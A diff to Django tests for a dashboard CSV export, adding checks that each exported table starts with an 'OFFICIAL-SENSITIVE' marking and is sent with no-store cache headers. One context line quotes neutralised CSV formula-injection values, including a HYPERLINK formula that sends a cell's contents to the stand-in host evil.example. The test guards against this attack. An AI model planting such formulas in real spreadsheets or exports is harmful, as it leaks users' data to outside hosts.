@@ -53,7 +53,9 @@ def trend(client, month="2024-06"):
         reverse("dashboard-export", args=["neighbourhoods", "crime-trend"]) + f"?month={month}"
     )
     assert response.status_code == 200
-    return b"".join(response.streaming_content).decode().splitlines()
+    marking, *lines = b"".join(response.streaming_content).decode().splitlines()
+    assert marking == "OFFICIAL-SENSITIVE"
+    return lines
 
 
 def test_crime_trend_by_month_and_type_within_the_inspectors_command(crimes, client_for, inspector):
@@ -141,3 +143,23 @@ def test_a_crime_type_written_as_a_formula_is_no_formula_in_the_trend_header(tea
         'Month,\'  @SUM(A1),"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")",\'\uff1d1+1,Total',
         "2024-03,1,1,1,3",
     ]
+
+
+# Every dashboard CSV carries the protective marking (issue 20, item 7)
+
+
+def test_every_dashboard_csv_is_marked_official_sensitive_and_keeps_no_copy(crimes, client_for, inspector):
+    from pcso import figures
+
+    tables = [("team", "officers"), ("neighbourhoods", "guarantee")] + [
+        (entry.page, entry.key) for entry in figures.SECTIONS
+    ]
+    client = client_for(inspector)
+    answers = {}
+    for page, key in tables:
+        response = client.get(reverse("dashboard-export", args=[page, key]))
+        first = b"".join(response.streaming_content).decode().splitlines()[0]
+        answers[f"{page}/{key}"] = (response.status_code, first, response["Cache-Control"])
+    assert len(answers) == 11
+    expected = (200, "OFFICIAL-SENSITIVE", "max-age=0, no-cache, no-store, must-revalidate, private")
+    assert answers == dict.fromkeys(answers, expected)
